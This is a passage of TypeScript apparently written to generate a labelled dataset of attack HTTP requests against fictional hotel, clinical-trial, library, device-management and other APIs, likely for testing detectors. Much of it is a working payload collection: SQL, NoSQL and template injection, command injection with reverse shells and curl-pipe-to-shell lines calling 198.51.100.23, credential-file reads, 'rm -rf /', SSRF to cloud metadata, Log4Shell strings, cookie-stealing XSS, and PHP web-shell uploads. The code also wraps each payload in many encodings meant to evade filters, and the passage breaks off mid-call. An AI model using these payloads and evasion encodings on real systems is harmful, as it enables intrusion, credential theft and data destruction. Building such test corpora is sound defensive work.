    path: `/v1/places/place_${alnum(14)}/reviews`,
    iss: ISS.maps,
    build: (v) => ({ rating: 4, text: 'Good coffee, slow wifi.', visit: { party: { label: v, size: 2 } } }),
    get: (e) => `/v1/places/search?q=${e}&radius=2000`,
  },
  {
    method: 'POST',
    path: '/v1/directions',
    iss: ISS.maps,
    build: (v) => ({
      locations: [
        { lat: 52.51, lon: 13.39 },
        { lat: 52.53, lon: 13.41, name: v },
      ],
      costing: 'auto',
    }),
    get: (e) => `/v2/geocode?q=${e}&limit=5`,
  },
  {
    method: 'POST',
    path: '/api/v1/properties/prop_BER01/reservations',
    iss: ISS.hotel,
    build: (v) => ({
      guest: { name: 'Chloé Lefèvre', email: 'chloe@example.fr', preferences: { note: v } },
      stay: { arrival: '2026-11-12', nights: 2, adults: 2, room_type: 'KING-DLX', rate_plan: 'BAR' },
    }),
    get: (e) => `/api/v1/guests?q=${e}&page=1`,
  },
  {
    method: 'POST',
    path: `/api/v1/folios/${digits(6)}/charges`,
    iss: ISS.hotel,
    build: (v) => ({ code: 'MINIBAR', description: v, amount: { value: 12.5, currency: 'EUR' } }),
    get: (e) =>
      `/api/v1/properties/prop_BER01/availability?arrival=2026-11-02&departure=2026-11-04&rate_plan=${e}`,
  },
  {
    method: 'POST',
    path: `/api/v3/fields/${uuid()}/scouting-notes`,
    iss: ISS.agri,
    build: (v) => ({ text: 'Tar spot on ear leaf', observation: { pest: { name: v, severity: 2 } } }),
    get: (e) => `/api/v3/search?q=${e}&type=notes`,
  },
  {
    method: 'PUT',
    path: '/api/v3/irrigation/pivots/4/rules',
    iss: ISS.agri,
    build: (v) => ({
      rules: [{ when: 'soil_moisture_pct < 22', do: { run_zone: 3, label: v } }],
      enabled: true,
    }),
    get: (e) => `/api/v3/weather/forecast?lat=41.6&lon=-93.6&fields=${e}`,
  },
  {
    method: 'POST',
    path: '/api/edc/queries',
    iss: ISS.trials,
    build: (v) => ({ study: 'CARD-301', form: 'VS', field: 'SYSBP', subject_id: '204-1182', response: v }),
    get: (e) => `/fhir/r4/Observation?subject=Patient%2F204-1182&code=${e}`,
  },
  {
    method: 'POST',
    path: '/api/studies/CARD-301/adverse-events',
    iss: ISS.trials,
    build: (v) => ({ subject_id: '317-0042', term: v, ctcae_grade: 2, onset: '2026-10-20' }),
    get: (e) => `/api/studies?q=${e}&status=recruiting`,
  },
  {
    method: 'POST',
    path: '/api/patrons/me/holds',
    iss: ISS.lib,
    build: (v) => ({
      bib_id: `b${digits(7)}`,
      pickup_location: 'MAIN',
      notify: { email: 'reader@example.org', note: v },
    }),
    get: (e) => `/api/catalog/search?q=${e}&format=book`,
  },
  {
    method: 'PATCH',
    path: '/api/patrons/me',
    iss: ISS.lib,
    ct: 'application/merge-patch+json',
    build: (v) => ({ preferred_name: v }),
    get: (e) => `/sru?version=1.2&operation=searchRetrieve&query=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v1/reports',
    iss: ISS.mod,
    build: (v) => ({ target: { type: 'post', id: digits(18) }, reason: 'spam', details: v }),
    get: (e) => `/api/v1/search/content?q=${e}&lang=any`,
  },
  {
    method: 'POST',
    path: `/api/v1/queue/items/${uuid()}/decisions`,
    iss: ISS.mod,
    build: (v) => ({ action: 'remove', policy: 'SPAM.1', meta: { ref: v } }),
    get: (e) => `/api/v1/queue?status=open&sort=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v2/devices/checkin',
    iss: ISS.mdm,
    build: (v) => ({
      serial: `C02${alnum(8).toUpperCase()}`,
      hostname: v,
      os: { name: 'macOS', version: '15.1.1' },
    }),
    get: (e) => `/api/v2/devices?filter=${e}&sort=-last_seen`,
  },
  {
    method: 'POST',
    path: `/api/v2/tickets/INC${digits(7)}/comments`,
    iss: ISS.mdm,
    build: (v) => ({ body: 'see attached log', context: { device: { user: v } } }),
    get: (e) => `/api/v2/search?q=${e}&scope=devices`,
  },
  {
    method: 'PATCH',
    path: '/api/v1/users/me/settings',
    iss: ISS.ctf,
    ct: 'application/merge-patch+json',
    build: (v) => ({ display_name: v }),
    get: (e) => `/api/v1/ctf/fall-2026/scoreboard?bracket=open&around_team=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v1/challenges/web-200-blind-notes/submissions',
    iss: ISS.ctf,
    build: (v) => ({ flag: 'CTF{not_it}', team_id: v }),
    get: (e) => `/api/v1/search?q=${e}&type=forum`,
  },
];

const URL_TARGETS: readonly Target[] = [
  {
    method: 'POST',
    path: '/api/v1/webhooks',
    iss: ISS.mod,
    build: (v) => ({ url: v, events: ['case.resolved'], secret: alnum(24) }),
    get: (e) => `/api/v1/link-preview?url=${e}`,
  },
  {
    method: 'POST',
    path: '/v1/datasets/import',
    iss: ISS.maps,
    build: (v) => ({ name: 'stores', origin: { type: 'geojson', url: v } }),
    get: (e) => `/v1/static-map?center=52.52,13.40&zoom=12&overlay_url=${e}`,
  },
  {
    method: 'PATCH',
    path: '/api/v1/users/me/settings',
    iss: ISS.ctf,
    ct: 'application/merge-patch+json',
    build: (v) => ({ avatar_url: v }),
    get: (e) => `/api/v1/media/proxy?src=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v3/imports/remote',
    iss: ISS.agri,
    build: (v) => ({ kind: 'imagery', satellite: { tile_url: v, bands: ['B04', 'B08'] } }),
    get: (e) => `/api/v3/imagery/tiles?template=${e}`,
  },
  {
    method: 'POST',
    path: '/fhir/r4/Subscription',
    iss: ISS.trials,
    ct: 'application/fhir+json',
    build: (v) => ({
      resourceType: 'Subscription',
      status: 'requested',
      criteria: 'MedicationDispense?status=completed',
      channel: { type: 'rest-hook', endpoint: v, payload: 'application/fhir+json' },
    }),
    get: (e) => `/fhir/r4/Binary/$fetch?url=${e}`,
  },
  {
    method: 'POST',
    path: '/api/cataloging/import',
    iss: ISS.lib,
    build: (v) => ({ format: 'marc21', feed: { marc_url: v } }),
    get: (e) => `/api/catalog/covers?isbn=9780131103627&fallback=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v2/profiles',
    iss: ISS.mdm,
    build: (v) => ({ name: 'Corp VPN', branding: { icon_url: v } }),
    get: (e) => `/api/v2/software/catalog/fetch?manifest=${e}`,
  },
  {
    method: 'PUT',
    path: '/api/v1/properties/prop_LIS02/integrations/channel-manager',
    iss: ISS.hotel,
    build: (v) => ({ provider: 'siteminder', callback_url: v, enabled: true }),
    get: (e) => `/api/v1/properties/prop_LIS02/ical/import?feed=${e}`,
  },
];

const FILE_TARGETS: readonly Target[] = [
  {
    method: 'POST',
    path: '/api/v1/reports/export',
    iss: ISS.hotel,
    build: (v) => ({ report_id: 'adr-by-segment', format: 'csv', filename: v }),
    get: (e) => `/api/v1/reports/download?file=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v3/imports/soil/commit',
    iss: ISS.agri,
    build: (v) => ({ upload: { file_ref: v, crs: 'EPSG:4326' } }),
    get: (e) => `/api/v3/exports/prescriptions?path=${e}`,
  },
  {
    method: 'POST',
    path: '/api/etmf/documents',
    iss: ISS.trials,
    build: (v) => ({ study: 'ONC-2024-117', doc: { type: 'cv', storage_key: v } }),
    get: (e) => `/api/etmf/documents/download?key=${e}`,
  },
  {
    method: 'PUT',
    path: '/api/v1/properties/prop_NYC05/templates/confirmation',
    iss: ISS.hotel,
    build: (v) => ({ template: { subject: 'Confirmed', layout: v } }),
    get: (e) => `/api/v1/templates/preview?layout=${e}`,
  },
  {
    method: 'POST',
    path: '/v1/styles/streets/sprites',
    iss: ISS.maps,
    build: (v) => ({ sprite: { name: 'poi', path: v } }),
    get: (e) => `/v1/fonts/glyphs?fontstack=${e}&range=0-255`,
  },
  {
    method: 'POST',
    path: '/api/v1/evidence/attach',
    iss: ISS.mod,
    build: (v) => ({ case_id: uuid(), attachments: [{ storage_key: v }] }),
    get: (e) => `/api/v1/evidence/raw?key=${e}`,
  },
  {
    method: 'POST',
    path: '/api/v2/scripts/run',
    iss: ISS.mdm,
    build: (v) => ({ script_id: `scr_${alnum(8)}`, options: { log_file: v } }),
    get: (e) => `/api/v2/logs/tail?file=${e}&lines=200`,
  },
  {
    method: 'GET',
    path: '/api/catalog/covers',
    iss: ISS.lib,
    build: (v) => ({ image: v }),
    get: (e) => `/api/catalog/covers?image=${e}&size=M`,
  },
];

const PAYLOADS: Record<string, readonly unknown[]> = {
  sql: [
    "' OR '1'='1' -- ",
    "admin'--",
    "1' UNION SELECT username, password_hash, NULL FROM users-- -",
    '1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)',
    "'; DROP TABLE reservations; --",
    "1' AND extractvalue(1, concat(0x7e, (SELECT user()), 0x7e))-- -",
    "1; WAITFOR DELAY '0:0:5'--",
    "' UNION ALL SELECT NULL, table_name, column_name FROM information_schema.columns WHERE table_schema=database()#",
    '1) OR pg_sleep(5)--',
    "' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.databases))--",
    "-1' OR 3*2*1=6 AND 000123=000123 --",
    "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE id END)",
    "'||(SELECT pg_read_file('/etc/passwd'))||'",
    "1'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/x.sh | sh'--",
  ],
  nosql: [
    { $ne: null },
    { $gt: '' },
    { $regex: '^adm', $options: 'i' },
    { $where: 'sleep(5000) || true' },
    { $where: 'this.password.match(/^a.*/) != null' },
    { $in: ['admin', 'root', 'superuser'] },
    { $exists: true },
    { $nin: [''] },
    "'; return true; var x='",
    "1'; while(true){}; var y='",
    { $expr: { $eq: [{ $substrCP: ['$password', 0, 1] }, 'a'] } },
    { $or: [{ role: 'admin' }, { _id: { $ne: null } }] },
    { $function: { body: 'function() { return true }', args: [], lang: 'js' } },
  ],
  template: [
    '{{7*7}}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<%= `cat /etc/passwd` %>',
    '#{7*7}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x',
    "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    '{php}echo `id`;{/php}',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
  ],
  command: [
    '; cat /etc/passwd',
    '| nc 198.51.100.23 4444 -e /bin/sh',
    '`id`',
    '$(curl -s http://198.51.100.23/s.sh | sh)',
    '&& wget http://198.51.100.23/x -O /tmp/x; chmod +x /tmp/x; /tmp/x',
    '; bash -i >& /dev/tcp/198.51.100.23/4444 0>&1',
    '| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ';${IFS}cat${IFS}/etc/shadow',
    '\nid\n',
    '& whoami & ',
    '|| curl -d @/etc/passwd http://198.51.100.23/',
    '$(sleep 10)',
    '; python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
    'LT-FIN-0231; rm -rf / --no-preserve-root',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow',
    '/proc/self/environ',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../../../../../root/.ssh/id_rsa',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..;/..;/..;/WEB-INF/web.xml',
    '/etc/passwd%00.png',
    '../../../../../app/.env',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'http://2852039166/latest/user-data',
    'http://0x7f000001:8080/admin',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'file:///etc/passwd',
    'dict://127.0.0.1:11211/stats',
    'http://localhost:2375/containers/json',
    'http://169.254.170.2/v2/credentials',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'http://127.1:8500/v1/agent/self',
    'http://[fd00:ec2::254]/latest/api/token',
    'http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://0177.0.0.1/server-status',
  ],
  'prototype-pollution': [
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"role":"admin"}}}',
    '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
    '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
    '{"__proto__":{"polluted":"yes","toString":"boom"}}',
    '{"constructor":{"prototype":{"allowedTags":["script","iframe"]}}}',
    '{"__proto__":{"status":510,"expose":true}}',
    '{"__proto__":{"sourceURL":"\\u000aprocess.mainModule.require(\'child_process\').execSync(\'id\')"}}',
    '{"__proto__":{"json spaces":" "}}',
    '{"__proto__":{"exposedHeaders":["x-debug"],"credentials":true}}',
    '{"constructor":{"prototype":{"isAdmin":true,"permissions":["*"]}}}',
  ],
  log4shell: [
    '${jndi:ldap://198.51.100.23:1389/Exploit}',
    '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.23/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23:1099/obj}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.c3x9.oast.example}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//198.51.100.23/x}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.23/a}',
    '${jndi:ldaps://attacker.example/${sys:java.version}}',
    '${${upper:j}ndi:rmi://198.51.100.23/Calc}',
    '${jndi:ldap://127.0.0.1#evil.example:1389/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.23/z}",
    '${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://${hostName}.d4x.oast.example/}',
    '${jndi:iiop://198.51.100.23:1050/x}',
  ],
  xss: [
    '<script>alert(document.domain)</script>',
    '<img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//198.51.100.23/c?'+document.cookie)>",
    'javascript:alert(document.cookie)',
    '"><iframe src=javascript:alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<a href="jav&#x61;script:alert(1)">click</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '<input autofocus onfocus=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<body onload=eval(atob("YWxlcnQoMSk="))>',
    '"><script src=//198.51.100.23/x.js></script>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  ],
};

/** JSON string literal with every non-alphanumeric character written as a `\u` escape. */
function uEscape(s: string): string {
  let out = '"';
  for (const ch of s) {
    const code = ch.codePointAt(0) ?? 0;
    if (/[A-Za-z0-9]/.test(ch)) out += ch;
    else if (code > 0xffff) out += JSON.stringify(ch).slice(1, -1);
    else out += `\\u${code.toString(16).padStart(4, '0')}`;
  }
  return `${out}"`;
}

const MARK = '\u0001MARK\u0001';

/** Append an attack request. */
function a(
  family: string,
  technique: string,
  method: string,
  path: string,
  headers: Headers,
  body: string,
): void {
  attacks.push({
    id: `h18a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers,
    body,
  });
}

/** JSON body of a target with the value nested where it belongs. */
const jsonBody = (t: Target, v: unknown): string => JSON.stringify(t.build(v));

type Technique = (family: string, t: Target, p: unknown) => void;

const asText = (p: unknown): string => (typeof p === 'string' ? p : JSON.stringify(p));
const isHeaderSafe = (s: string): boolean => /^[\x20-\x7e]*$/.test(s);

const TECHNIQUES: Record<string, Technique> = {
  'nested-field': (f, t, p) =>
    a(
      f,
      'nested-field',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, p),
    ),
  'array-element': (f, t, p) =>
    a(
      f,
      'array-element',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, ['ok', pick(['draft', 'v2', 'en']), p]),
    ),
  'json-key': (f, t, p) =>
    a(
      f,
      'json-key',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, { [asText(p)]: true, client: 'web' }),
    ),
  'unicode-escape': (f, t, p) =>
    a(
      f,
      'unicode-escape',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, MARK).replace(JSON.stringify(MARK), uEscape(asText(p))),
    ),
  'json-in-string': (f, t, p) =>
    a(
      f,
      'json-in-string',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, JSON.stringify({ v: 2, value: p, ts: iso() })),
    ),
  'url-encoded-in-string': (f, t, p) =>
    a(
      f,
      'url-encoded-in-string',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, enc(asText(p))),
    ),
  'base64-in-string': (f, t, p) =>
    a(
      f,
      'base64-in-string',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, `data:text/plain;base64,${b64(asText(p))}`),
    ),
  'graphql-variables': (f, t, p) =>
    a(
      f,
      'graphql-variables',
      'POST',
      '/graphql',
      hdr(t.iss, 'application/json'),
      gql(
        'UpdateItem',
        'mutation UpdateItem($id: ID!, $input: ItemInput!) {\n  updateItem(id: $id, input: $input) { id updatedAt }\n}',
        { id: uuid(), input: { note: p, tags: ['web'] } },
      ),
    ),
  'graphql-literal': (f, t, p) =>
    a(
      f,
      'graphql-literal',
      'POST',
      '/graphql',
      hdr(t.iss, 'application/json'),
      JSON.stringify({
        query: `query {\n  search(term: ${JSON.stringify(asText(p))}, first: 10) { id title }\n}`,
      }),
    ),
  'query-string': (f, t, p) => a(f, 'query-string', 'GET', t.get(enc(asText(p))), hdr(t.iss), ''),
  'double-encoding': (f, t, p) => a(f, 'double-encoding', 'GET', t.get(enc(enc(asText(p)))), hdr(t.iss), ''),
  header: (f, t, p) => {
    const s = asText(p);
    if (!isHeaderSafe(s)) return TECHNIQUES['nested-field']?.(f, t, p);
    const name = pick(
      f === 'ssrf'
        ? ['referer', 'x-forwarded-host', 'x-callback-url']
        : f === 'path-traversal'
          ? ['x-original-url', 'x-rewrite-url', 'x-file-name']
          : ['user-agent', 'referer', 'x-forwarded-for', 'x-api-version', 'x-client-name'],
    );
    return a(
      f,
      `header:${name}`,
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json', { [name]: s }),
      jsonBody(t, pick(['ok', 'Main St', 'n/a'])),
    );
  },
  'form-body': (f, t, p) =>
    a(
      f,
      'form-body',
      'POST',
      t.path,
      { ...hdr(t.iss, 'application/x-www-form-urlencoded'), accept: 'application/json' },
      form({ note: asText(p), page: 1, lang: 'en' }),
    ),
  'multipart-part': (f, t, p) => {
    const m = multipart([
      { name: 'meta', type: 'application/json', value: JSON.stringify({ source: 'web', note: p }) },
      { name: 'file', filename: 'notes.txt', type: 'text/plain', value: 'see attached' },
    ]);
    a(f, 'multipart-part', 'POST', t.path, hdr(t.iss, m.ct), m.body);
  },
  'ndjson-line': (f, t, p) => {
    const lines = [
      JSON.stringify({ id: 1, note: 'ok' }),
      JSON.stringify({ id: 2, note: p }),
      JSON.stringify({ id: 3, note: 'done' }),
    ];
    a(
      f,
      'ndjson-line',
      'POST',
      `${t.path.split('?')[0]}:bulk`,
      hdr(t.iss, 'application/x-ndjson'),
      `${lines.join('\n')}\n`,
    );
  },
  'json-patch-value': (f, t, p) =>
    a(
      f,
      'json-patch-value',
      'PATCH',
      t.path,
      hdr(t.iss, 'application/json-patch+json'),
      JSON.stringify([
        { op: 'test', path: '/version', value: int(1, 9) },
        { op: 'replace', path: '/notes/0/text', value: p },
      ]),
    ),
  'jsonapi-attribute': (f, t, p) =>
    a(
      f,
      'jsonapi-attribute',
      'PATCH',
      t.path,
      hdr(t.iss, 'application/vnd.api+json'),
      JSON.stringify({
        data: { type: 'items', id: uuid(), attributes: { title: 'ok', 'custom-fields': { label: p } } },
      }),
    ),
  'deep-nesting': (f, t, p) =>
    a(
      f,
      'deep-nesting',
      t.method === 'GET' ? 'POST' : t.method,
      t.path,
      hdr(t.iss, t.ct ?? 'application/json'),
      jsonBody(t, { a: { b: { c: [{ d: { e: p } }] } } }),
    ),
};

/** Technique order per family (cycled); families whose payload is a structure get structure-friendly lists. */
const GENERIC_TECHS = [
  'nested-field',
  'query-string',
  'array-element',
  'unicode-escape',
  'json-in-string',
  'graphql-variables',
  'header',
  'url-encoded-in-string',
  'form-body',
  'base64-in-string',
  'multipart-part',
  'double-encoding',
  'ndjson-line',
  'json-key',
  'json-patch-value',
  'jsonapi-attribute',
  'graphql-literal',
  'deep-nesting',
];

function familyAttacks(
  family: string,
  targets: readonly Target[],
  techs: readonly string[],
  n: number,
  offset: number,
): void {
  const ps = PAYLOADS[family] ?? [];
  for (let i = 0; i < n; i++) {
    const p = ps[(i + offset) % ps.length];
    const tech = TECHNIQUES[techs[i % techs.length] as string] as Technique;
    tech(family, pick(targets), p);
  }
}

/** NoSQL operator injection: operator objects in JSON, bracket syntax in query strings and forms. */
function nosqlExtra(): void {
  const login = { method: 'POST', path: '/api/v1/auth/login', iss: ISS.ctf };
  a(
    'nosql',
    'login-operator-object',
    login.method,
    login.path,
    hdr(login.iss, 'application/json'),
    JSON.stringify({ username: 'admin', password: { $ne: 'x' } }),
  );
  a('nosql', 'query-string-bracket', 'GET', '/api/patrons/lookup?card[$ne]=0&pin[$gt]=', hdr(ISS.lib), '');
  a(
    'nosql',
    'form-bracket',
    'POST',
    '/opac/login',
    {
      'user-agent': UAS[0] as string,
      'content-type': 'application/x-www-form-urlencoded',
      accept: 'text/html',
    },
    'userid=admin&password%5B%24regex%5D=.*&koha_login_context=opac',
  );
  a(
    'nosql',
    'unicode-escaped-operator',
    'POST',
    '/api/v2/devices/search',
    hdr(ISS.mdm, 'application/json'),
    '{"filter":{"owner":{"\\u0024where":"function(){ sleep(3000); return true; }"}}}',
  );
  a(
    'nosql',
    'query-string-bracket',
    'GET',
    `/api/v1/guests?filter[email][$regex]=${enc('^.*@')}&filter[vip][$exists]=true`,
    hdr(ISS.hotel),
    '',
  );
  a(
    'nosql',
    'aggregation-lookup',
    'POST',
    '/api/v1/reports/custom',
    hdr(ISS.hotel, 'application/json'),
    JSON.stringify({
      name: 'x',
      pipeline: [
        { $lookup: { from: 'users', localField: 'x', foreignField: 'x', as: 'u' } },
        { $project: { 'u.password_hash': 1 } },
      ],
    }),
  );
}

/** Prototype pollution: polluting keys in bodies, query strings, forms, patches and multipart names. */
function protoAttacks(): void {
  const ps = PAYLOADS['prototype-pollution'] ?? [];
  const techs = [
    'top-level-key',
    'nested-field',
    'array-element',
    'query-string',
    'json-patch-path',
    'merge-patch',
    'unicode-escaped-key',
    'graphql-variables',
    'json-in-string',
    'form-body',
    'multipart-field-name',
    'ndjson-line',
    'jsonapi-attribute',
  ];
  for (let i = 0; i < 33; i++) {
    const raw = ps[i % ps.length] as string;
    const obj = JSON.parse(raw) as Record<string, unknown>;
    const t = pick(GENERIC);
    const method = t.method === 'GET' ? 'POST' : t.method;
    const tech = techs[i % techs.length] as string;
    const key = Object.keys(obj)[0] as string;
    const inner = obj[key] as Record<string, unknown>;
    const flat = (prefix: string, o: Record<string, unknown>): string[] =>
      Object.entries(o).flatMap(([k, v]) =>
        v !== null && typeof v === 'object' && !Array.isArray(v)
          ? flat(`${prefix}[${k}]`, v as Record<string, unknown>)
          : [`${prefix}[${k}]=${enc(String(v))}`],
      );
    switch (tech) {
      case 'top-level-key': {
        const base = JSON.stringify(t.build('ok'));
        a(
          'prototype-pollution',
          tech,
          method,
          t.path,
          hdr(t.iss, t.ct ?? 'application/json'),
          `{${raw.slice(1, -1)},${base.slice(1)}`,
        );
        break;
      }
      case 'nested-field':
        a(
          'prototype-pollution',
          tech,
          method,
          t.path,
          hdr(t.iss, t.ct ?? 'application/json'),
          JSON.stringify(t.build(obj)),
        );
        break;
      case 'array-element':
        a(
          'prototype-pollution',
          tech,
          method,
          t.path,
          hdr(t.iss, t.ct ?? 'application/json'),
          JSON.stringify(t.build([{ ok: true }, obj])),
        );
        break;
      case 'query-string':
        a('prototype-pollution', tech, 'GET', `${t.get('x')}&${flat(key, inner).join('&')}`, hdr(t.iss), '');
        break;
      case 'json-patch-path': {
        const k1 = key === '__proto__' ? '/__proto__' : '/constructor/prototype';
        const first = Object.entries(
          key === '__proto__' ? inner : ((inner.prototype ?? {}) as Record<string, unknown>),
        )[0] ?? ['isAdmin', true];
        a(
          'prototype-pollution',
          tech,
          'PATCH',
          t.path,
          hdr(t.iss, 'application/json-patch+json'),
          JSON.stringify([{ op: 'add', path: `${k1}/${first[0]}`, value: first[1] }]),
        );
        break;
      }
      case 'merge-patch':
        a(
          'prototype-pollution',
          tech,
          'PATCH',
          t.path,
          hdr(t.iss, 'application/merge-patch+json'),
          JSON.stringify({ settings: obj }),
        );
        break;
      case 'unicode-escaped-key': {
        const escKey = key === '__proto__' ? '\\u005f\\u005fproto\\u005f\\u005f' : 'constructo\\u0072';
        a(
          'prototype-pollution',
          tech,
          method,
          t.path,
          hdr(t.iss, t.ct ?? 'application/json'),
          `{"profile":{"${escKey}":${JSON.stringify(inner)}},"client":"web"}`,
        );
        break;
      }
      case 'graphql-variables':
        a(
          'prototype-pollution',
          tech,
          'POST',
          '/graphql',
          hdr(t.iss, 'application/json'),
          `{"operationName":"Save","query":"mutation Save($input: JSON!) { savePreferences(input: $input) { ok } }","variables":{"input":${raw}}}`,
        );
        break;
      case 'json-in-string':
        a(
          'prototype-pollution',
          tech,
          method,
          t.path,
          hdr(t.iss, t.ct ?? 'application/json'),
          JSON.stringify(t.build(raw)),
        );
        break;
      case 'form-body':
        a(
          'prototype-pollution',
          tech,
          'POST',
          t.path,
          hdr(t.iss, 'application/x-www-form-urlencoded'),
          `name=ok&${flat(key, inner).join('&')}`,
        );
        break;
      case 'multipart-field-name': {
        const parts = flat(key, inner).map((kv) => {
          const [k, v] = kv.split('=');
          return { name: k as string, value: decodeURIComponent(v ?? '') };
        });
        const m = multipart([{ name: 'title', value: 'report' }, ...parts]);
        a('prototype-pollution', tech, 'POST', t.path, hdr(t.iss, m.ct), m.body);
        break;
      }
      case 'ndjson-line':
        a(
          'prototype-pollution',
          tech,
          'POST',
          `${t.path}:bulk`,
          hdr(t.iss, 'application/x-ndjson'),
          `{"id":1}\n${raw}\n{"id":3}\n`,
        );
        break;
      default:
        a(
          'prototype-pollution',
          tech,
          'PATCH',
          t.path,
          hdr(t.iss, 'application/vnd.api+json'),
          `{"data":{"type":"items","id":"${uuid()}","attributes":${raw}}}`,
        );
    }
  }
}

/** Path traversal in multipart file names (zip-slip style uploads). */
function traversalUploads(): void {
  for (const fn of [
    '../../../../var/www/html/shell.php',
    '..\\..\\..\\inetpub\\wwwroot\\cmd.aspx',
    '....//....//etc/cron.d/backdoor',
  ]) {
    const m = multipart([
      { name: 'case_id', value: uuid() },
      {
        name: 'evidence',
        filename: fn,
        type: 'application/octet-stream',
        value: '<?php system($_GET["c"]); ?>',
      },
    ]);
    a('path-traversal', 'multipart-filename', 'POST', '/api/v1/evidence', hdr(ISS.mod, m.ct), m.body);
  }
}

function buildAttacks(): void {
  familyAttacks('sql', GENERIC, GENERIC_TECHS, 33, 0);
  familyAttacks(
    'nosql',
    GENERIC,
    [
      'nested-field',
      'array-element',
      'json-in-string',
      'graphql-variables',
      'merge-like-nested',
      'deep-nesting',
      'ndjson-line',
      'jsonapi-attribute',
      'json-patch-value',
      'unicode-escape',
      'url-encoded-in-string',
      'multipart-part',
    ].map((x) => (x === 'merge-like-nested' ? 'nested-field' : x)),
    27,
    0,
  );
  nosqlExtra();
  familyAttacks('template', GENERIC, GENERIC_TECHS, 33, 3);
  familyAttacks('command', GENERIC, GENERIC_TECHS, 33, 5);
  familyAttacks(
    'path-traversal',
    FILE_TARGETS,
    GENERIC_TECHS.filter((x) => x !== 'json-key'),
    30,
    0,
  );
  traversalUploads();
  familyAttacks(
    'ssrf',
    URL_TARGETS,
    GENERIC_TECHS.filter((x) => x !== 'json-key'),
    33,
    0,
  );
  protoAttacks();
  familyAttacks(
    'log4shell',
    GENERIC,
    [
      'header',
      'nested-field',
      'header',
      'query-string',
      'unicode-escape',
      'json-in-string',
      'graphql-variables',
      'header',
      'array-element',
      'form-body',
      'base64-in-string',
      'multipart-part',
      'url-encoded-in-string',
      'double-encoding',
      'ndjson-line',
      'json-key',
      'json-patch-value',
    ],
    33,
